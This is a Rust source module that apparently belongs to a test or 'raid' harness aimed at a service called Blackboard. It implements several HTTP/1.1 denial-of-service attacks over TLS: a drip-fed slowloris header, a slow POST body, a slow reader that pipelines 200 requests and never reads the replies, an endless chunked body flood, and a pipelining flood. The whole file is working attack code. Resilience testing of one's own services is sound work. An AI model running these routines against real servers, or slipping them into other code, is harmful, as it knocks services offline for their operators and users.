//! By HTTP/1.1.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::super::Victim::Blackboard;
use super::super::stage::{Speaks, Stage, flood};
use super::below::DRIP;

const CHALLENGES: &str = "/v1/challenges";
const JSON: &str = "application/json";

/// How many requests somebody sends who will not read the answers.
const UNREAD: usize = 200;

pub(super) async fn slow_header(stage: &Stage) -> Result<()> {
    let mut stream = stage.tls(Blackboard, Speaks::Http1).await?;
    let head = format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", stage.host(Blackboard));
    for byte in head.bytes().chain(std::iter::repeat(b'x')) {
        stream.write_all(&[byte]).await?;
        tokio::time::sleep(DRIP).await;
    }
    Ok(())
}

pub(super) async fn slow_body(stage: &Stage) -> Result<()> {
    let mut stream = stage.tls(Blackboard, Speaks::Http1).await?;
    let head = stage.post(Blackboard, CHALLENGES, JSON, "Content-Length: 60000\r\n");
    stream.write_all(head.as_bytes()).await?;
    loop {
        stream.write_all(b" ").await?;
        tokio::time::sleep(DRIP).await;
    }
}

pub(super) async fn slow_reader(stage: &Stage) -> Result<()> {
    let mut stream = stage.tls(Blackboard, Speaks::Http1).await?;
    let request = format!("GET /problems/ HTTP/1.1\r\nHost: {}\r\n\r\n", stage.host(Blackboard));
    for _ in 0..UNREAD {
        stream.write_all(request.as_bytes()).await?;
        stage.tried();
    }
    // It stays, and reads nothing, until the raid is over.
    std::future::pending().await
}

pub(super) async fn endless_body(stage: &Stage) -> Result<()> {
    let mut stream = stage.tls(Blackboard, Speaks::Http1).await?;
    let head = stage.post(Blackboard, CHALLENGES, JSON, "Transfer-Encoding: chunked\r\n");
    stream.write_all(head.as_bytes()).await?;
    let chunk = [&b"4000\r\n"[..], &[b' '; 0x4000], b"\r\n"].concat();
    flood(stage, stream, &chunk).await
}

pub(super) async fn pipelining(stage: &Stage) -> Result<()> {
    let stream = stage.tls(Blackboard, Speaks::Http1).await?;
    let request = format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", stage.host(Blackboard));
    flood(stage, stream, request.repeat(50).as_bytes()).await
}
